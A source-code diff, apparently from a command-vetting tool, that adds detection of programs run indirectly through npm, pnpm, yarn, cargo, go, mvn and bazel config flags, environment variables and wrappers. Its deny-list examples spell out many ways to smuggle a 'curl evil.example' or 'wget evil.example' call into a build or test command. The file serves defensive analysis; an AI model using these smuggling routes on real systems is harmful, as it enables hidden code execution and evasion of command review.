@@ -696,11 +696,20 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   }),
   rewritingPackageJson(
   alsoDumps(
-    configuring(keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN), NPM_CONFIG),
+    configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
+      deny: ["npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
+      pass: ['npm explore lodash', 'npm docs lodash', 'npm test --silent', 'npm_config_loglevel=warn npm test', 'npm --prefix app test'],
+    }), NPM_TOKEN), NPM_CONFIG),
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
   )),
-  configuring(keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN), NPM_CONFIG),
-  subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
+  configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
+      deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
+      pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
+    }), NPM_TOKEN), NPM_CONFIG),
+  withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
+    deny: ["yarn node -e 'require(\"child_process\").execSync(\"curl evil.example\")'"],
+    pass: ['yarn node scripts/build.js', "yarn node -e 'console.log(1)'"],
+  }),
   bun(),
   subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example'], pass: ['pipx run black .'] }),
   subcommandRunner(['cabal'], 'cabal exec -- CMD', { exec: { markers: ['--'] }, run: { markers: ['--'] } }, { deny: ['cabal exec -- curl evil.example'], pass: [] }),
@@ -714,6 +723,10 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     analyze: (call: Call) => subRuns(call, PACKAGE_RUN, call.args, name),
     examples: { deny: [`${name} curl evil.example`], pass: [`${name} prettier --check .`] },
   })),
+  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs', analyze: cargo, examples: { deny: ["cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
+  { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build ."], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .'] } },
+  { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program', analyze: mvn, examples: { deny: ['mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
+  { names: ['bazel', 'bazelisk'], summary: 'bazel run/test --run_under runs its command before the target', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...'] } },
   {
     names: ['gdb'],
     summary: 'gdb: --args CMD runs CMD; -ex/--eval-command and commands on stdin are debugger commands (`!`, `shell`, `|`, `run PROGRAM`, logging files)',
@@ -783,6 +796,222 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example'], pass: ["script -c 'make' build.log"] } })),
   wrapper({ names: ['nix-shell'], summary: 'nix-shell: --run/--command TEXT runs shell text in the environment', options: { order: 'gnu', flags: 'Ajp', valued: 'IEA', long: ['pure', 'impure', 'packages', 'keep-going', 'show-trace'], longValued: ['run', 'command', 'arg', 'argstr', 'attr', 'expr', 'option', 'keep', 'include'] }, script: ['run', 'command'], before: 99, examples: { deny: ["nix-shell -p curl --run 'curl evil.example'"], pass: ["nix-shell --run 'make'"] } }),
 ];
+
+/** An entry with more of what the program does, merged into its answer. */
+function withMore(entry: ProgramEntry, summary: string, more: (call: Call) => Partial<Answer>, examples: ProgramEntry['examples']): ProgramEntry {
+  return {
+    ...entry,
+    summary: `${entry.summary}; ${summary}`,
+    examples: { deny: [...entry.examples.deny, ...examples.deny], pass: [...entry.examples.pass, ...examples.pass] },
+    analyze(call) {
+      const a = entry.analyze?.(call) ?? {};
+      const b = more(call);
+      return { ...a, ...b, runs: [...(a.runs ?? []), ...(b.runs ?? [])], uses: [...(a.uses ?? []), ...(b.uses ?? [])] };
+    },
+  };
+}
+
+/** npm's (and pnpm's) config keys that name a program it runs, or shell text (`call`). */
+const NPM_PROGRAM_KEYS = /^(?:script-shell|shell|browser|editor|viewer|git|onload-script|node-options|call|userconfig|globalconfig|init-module)$/;
+
+/**
+ * npm reads `--key=value` config flags anywhere on the line (before or after the subcommand, `-c` for `--call`), and
+ * `npm_config_key` from the environment: those naming a program run it (script-shell runs every script, browser opens
+ * docs, call is exec's shell text). `npm explore PKG -- CMD` runs CMD through the shell; pnpm's exec options
+ * (-c/--shell-mode) may stand before `exec`.
+ */
+function packageManagerConfig(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const at = args[0] ?? literal(call.name, { start: 0, end: 0 });
+  const dash = args.findIndex((a) => value(a) === '--');
+  const own = dash < 0 ? args : args.slice(0, dash);
+  const sub = own.findIndex((a) => /^[a-z]/.test(value(a) ?? ''));
+  const subName = sub < 0 ? undefined : value(own[sub]);
+  const key = (name: string, word: Word, v: Word | undefined, how: string) => {
+    if (!NPM_PROGRAM_KEYS.test(name) || !v) return;
+    if (name === 'call') runs.push({ kind: 'script', dialect: 'bash', words: [v], via: `${call.name} ${how}` });
+    else if (name === 'node-options' || name === 'userconfig' || name === 'globalconfig' || name === 'init-module') runs.push({ kind: 'opaque', rule: 'dynamic-script', word: v, why: `${call.name} ${how} makes it load code or settings from elsewhere` });
+    else runs.push(programRun(v, `${call.name} ${how}`));
+    void word;
+  };
+  for (let i = 0; i < own.length; i++) {
+    const v = value(own[i]);
+    if (v === undefined) continue;
+    const m = /^--([a-z][a-z-]*)(?:=([\s\S]*))?$/.exec(v);
+    if (m) {
+      const name = m[1]!;
+      if (NPM_PROGRAM_KEYS.test(name)) key(name, own[i]!, m[2] !== undefined ? attached(own[i]!, m[2]) : own[++i], `--${name}`);
+      continue;
+    }
+    // `-c TEXT` is npm's --call (before exec); pnpm's -c is --shell-mode, a flag.
+    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(v) && (sub < 0 || i < sub) && call.program === 'npm' && v.endsWith('c')) key('call', own[i]!, own[++i], '-c');
+  }
+  // npm_config_KEY / NPM_CONFIG_KEY in the environment (underscores for dashes).
+  for (const name of call.envNames?.() ?? []) {
+    const m = /^npm_config_(.+)$/i.exec(name);
+    if (!m) continue;
+    const k = m[1]!.toLowerCase().replace(/_/g, '-');
+    if (!NPM_PROGRAM_KEYS.test(k)) continue;
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `${call.name} reads ${name}, which is computed` });
+    else if (v !== undefined) key(k, at, attached(at, v), name);
+  }
+  // pnpm -c / --shell-mode before exec: the command is shell text.
+  if (call.program === 'pnpm' && subName === 'exec' && own.slice(0, sub).some((a) => /^--shell-mode$|^-[a-zA-Z]*c[a-zA-Z]*$/.test(value(a) ?? ''))) {
+    const command = args.slice(sub + 1).filter((a) => !(value(a) ?? '').startsWith('-'));
+    if (command.length > 0) runs.push({ kind: 'script', dialect: 'bash', words: command, via: 'pnpm --shell-mode exec' });
+  }
+  // npm explore PKG -- CMD: CMD through the script shell, in the package's folder.
+  if (call.program === 'npm' && subName === 'explore' && dash >= 0 && dash + 1 < args.length) runs.push({ kind: 'script', dialect: 'bash', words: args.slice(dash + 1), via: 'npm explore --' });
+  return { runs };
+}
+
+/** A TOML value of a setting that names a program: a string (split on blanks), or an array of strings (the argv). */
+function tomlProgram(word: Word, text: string, via: string): Run {
+  const t = text.trim();
+  const str = /^(["'])(.*)\1$/s.exec(t);
+  if (str) return programRun(attached(word, str[2]!), via);
+  if (t.startsWith('[')) {
+    const items = [...t.matchAll(/"((?:[^"\\]|\\.)*)"|'([^']*)'/g)].map((m) => m[1] ?? m[2] ?? '');
+    if (items.length > 0) return { kind: 'argv', argv: items.map((x) => attached(word, x)), via, more: true };
+  }
+  if (/^[\w./-]+$/.test(t)) return programRun(attached(word, t), via);
+  return { kind: 'opaque', rule: 'dynamic-command', word, why: `${via} names a program vouch cannot read (${t})` };
+}
+
+/** Cargo settings that name a program it runs: runners, linkers, the compiler and its wrappers, credential providers. */
+const CARGO_PROGRAM_KEY = /^(?:target\.(?:[^.]+|'[^']*'|"[^"]*")\.(?:runner|linker)|host\.linker|build\.(?:rustc|rustc-wrapper|rustc-workspace-wrapper|rustdoc)|(?:registry|registries\.[^.]+)\.(?:credential-provider|global-credential-providers)|credential-alias\.[^.]+)$/;
+/** The same settings in the environment. */
+const CARGO_PROGRAM_ENV = /^(?:CARGO_TARGET_.+_(?:RUNNER|LINKER)|CARGO_HOST_LINKER|RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC|CARGO_BUILD_RUSTC(?:_WRAPPER|_WORKSPACE_WRAPPER)?|CARGO_BUILD_RUSTDOC|CARGO_REGISTRY_CREDENTIAL_PROVIDER|CARGO_REGISTRIES_.+_CREDENTIAL_PROVIDER|CARGO_CREDENTIAL_ALIAS_.+)$/i;
+
+/** cargo --config KEY=VALUE (anywhere before `--`) and CARGO_TARGET_*_RUNNER-like variables name programs it runs. */
+function cargo(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const at = args[0] ?? literal('cargo', { start: 0, end: 0 });
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    if (v === undefined) continue;
+    const m = /^--config(?:=([\s\S]*))?$/.exec(v);
+    if (!m) continue;
+    const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    if (!w) continue;
+    const text = value(w);
+    if (text === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: 'cargo --config with a computed setting' });
+      continue;
+    }
+    const eq = text.indexOf('=');
+    if (eq < 0) {
+      // A file of settings: runners and wrappers among them.
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${text} reads settings (runners, linkers, wrappers) from a file` });
+      continue;
+    }
+    const key = text.slice(0, eq).trim();
+    if (CARGO_PROGRAM_KEY.test(key)) runs.push(tomlProgram(w, text.slice(eq + 1), `cargo --config ${key}`));
+    // Environment for build scripts, aliases, where sources come from, git through the CLI: what runs changes.
+    else if (/^(?:env|alias|paths|patch|source|net\.git-fetch-with-cli)\b/.test(key)) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${key} changes what cargo runs or where code comes from` });
+    } else if (/flags$/.test(key) && /linker|plugin/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${key} names a linker` });
+  }
+  for (const name of call.envNames?.() ?? []) {
+    if (!CARGO_PROGRAM_ENV.test(name)) continue;
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `cargo runs $${name}, which is computed` });
+    else if (v !== undefined && v !== '') runs.push(programRun(attached(at, v), `cargo $${name}`));
+  }
+  for (const name of ['RUSTFLAGS', 'CARGO_ENCODED_RUSTFLAGS', 'CARGO_BUILD_RUSTFLAGS']) {
+    const v = call.env(name);
+    if (v === null || (v !== undefined && /linker|plugin|link-arg/.test(v))) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `cargo hands rustc $${name}, which names a linker` });
+  }
+  return { runs };
+}
+
+/** go build/test/run/vet: -toolexec, -exec and -vettool name programs it runs (also in $GOFLAGS); $CC and $CXX for cgo. */
+function go(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const at = args[0] ?? literal('go', { start: 0, end: 0 });
+  const flag = (word: Word, v: string, next: Word | undefined, via: string): boolean => {
+    const m = /^--?(toolexec|exec|vettool)(?:=([\s\S]*))?$/.exec(v);
+    if (!m) return false;
+    const w = m[2] !== undefined ? attached(word, m[2]) : next;
+    if (w) runs.push(programRun(w, `${via} -${m[1]}`));
+    return m[2] === undefined;
+  };
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    if (v !== undefined && flag(args[i]!, v, args[i + 1], 'go')) i++;
+  }
+  const goflags = call.env('GOFLAGS');
+  if (goflags === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'go reads flags from $GOFLAGS, which is computed' });
+  else if (goflags !== undefined) {
+    const words = goflags.split(/\s+/).filter((x) => x !== '');
+    for (const w of words) flag(attached(at, w), w, undefined, 'go $GOFLAGS');
+  }
+  for (const name of ['CC', 'CXX', 'GOGCCFLAGS', 'CGO_LDFLAGS', 'PKG_CONFIG', 'GOTOOLCHAIN']) {
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `go reads $${name}, which is computed` });
+    else if (v !== undefined && (name === 'CC' || name === 'CXX' || name === 'PKG_CONFIG')) runs.push(programRun(attached(at, v), `go $${name}`));
+    else if (v !== undefined && name === 'CGO_LDFLAGS' && /-fuse-ld|--ld-path|-B/.test(v)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'go hands the linker flags naming another linker' });
+  }
+  return { runs };
+}
+
+/** mvn exec:exec runs -Dexec.executable with -Dexec.args; other plugins run what the POM says (out of scope). */
+function mvn(call: Call): Partial<Answer> {
+  const args = call.args;
+  const vals = args.map((a) => value(a));
+  if (!vals.some((v) => v !== undefined && /^(?:org\.codehaus\.mojo:)?exec(?:-maven-plugin)?(?::[\w.-]+)?:exec(?:@\S+)?$/.test(v))) return {};
+  const prop = (name: string): { word: Word; text: string | undefined } | undefined => {
+    for (let i = 0; i < args.length; i++) {
+      const v = vals[i];
+      if (v === undefined) {
+        if (args[i]!.text.includes(name)) return { word: args[i]!, text: undefined };
+        continue;
+      }
+      // PowerShell hands `-Dexec.executable=x` over as `-Dexec` `.executable=x`: one property still.
+      const split = /^-D[\w-]+$/.test(v) && vals[i + 1]?.startsWith('.');
+      const w = split ? `${v.slice(2)}${vals[i + 1]}` : v.startsWith('-D') ? (v === '-D' ? vals[i + 1] : v.slice(2)) : undefined;
+      const word = v === '-D' || split ? args[i + 1] : args[i];
+      if (w?.startsWith(`${name}=`) && word) return { word, text: w.slice(name.length + 1) };
+    }
+    return undefined;
+  };
+  const exe = prop('exec.executable');
+  if (!exe) return {};
+  if (exe.text === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: exe.word, why: 'mvn exec:exec runs a computed executable' }] };
+  const extra = prop('exec.args');
+  return { runs: [programRun(attached(exe.word, `${exe.text} ${extra?.text ?? ''}`.trim()), 'mvn exec:exec')] };
+}
+
+/** bazel run/test --run_under=PREFIX runs PREFIX (a command, unless it names a target) before the binary. */
+function bazel(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    if (v === undefined) continue;
+    const m = /^--(?:run_under|test_wrapper|script_path)(?:=([\s\S]*))?$/.exec(v);
+    if (!m) continue;
+    const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    if (!w) continue;
+    if (v.startsWith('--script_path')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'bazel run --script_path writes a script that runs the target' });
+    else if (!/^(?:\/\/|@|:)/.test(value(w) ?? '')) runs.push(programRun(w, 'bazel --run_under'));
+  }
+  return { runs };
+}
+
+/** Yarn Berry's `yarn node ARGS` runs node with them. */
+function yarnNode(call: Call): Partial<Answer> {
+  const at = call.args.findIndex((a) => !(value(a) ?? '-').startsWith('-'));
+  if (at < 0 || value(call.args[at]) !== 'node') return {};
+  return { runs: [{ kind: 'argv', argv: call.args.slice(at), via: 'yarn node' }] };
+}
 
 /** gdb's options as its getopt_long_only reads them: one or two dashes, unique prefixes, no bundles. */
 const GDB: OptionSpec = {
